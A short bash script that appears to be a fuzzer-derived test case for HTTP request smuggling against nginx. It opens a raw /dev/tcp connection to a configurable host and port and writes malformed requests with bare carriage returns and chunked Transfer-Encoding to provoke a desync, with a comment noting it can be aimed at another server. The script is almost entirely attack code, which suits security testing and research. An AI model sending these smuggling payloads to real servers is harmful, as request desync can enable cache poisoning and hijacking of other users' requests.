#!/bin/bash
# desync/bare-cr/smuggled-request via stream.concatenate against nginx
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-49285}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2.1 cat <&3 | xxd &
printf 'T / HTTP/1.1\r\nHost:}\r\nTransfer-Encoding:chunked\r\r\n\n0\n\r\n' >&3
sleep 0.1
printf 'PT /eo HTTP/1.1\r\nHost: {h\r\n\r\n' >&3
wait
